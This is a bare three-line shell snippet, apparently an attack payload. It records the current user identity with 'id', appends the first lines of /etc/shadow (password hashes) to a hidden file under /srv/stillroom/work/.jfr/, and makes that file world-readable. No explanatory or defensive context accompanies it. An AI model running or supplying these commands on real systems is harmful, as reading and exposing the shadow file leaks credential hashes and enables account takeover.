id > /srv/stillroom/work/.jfr/o.txt
head -n 3 /etc/shadow >> /srv/stillroom/work/.jfr/o.txt
chmod 644 /srv/stillroom/work/.jfr/o.txt
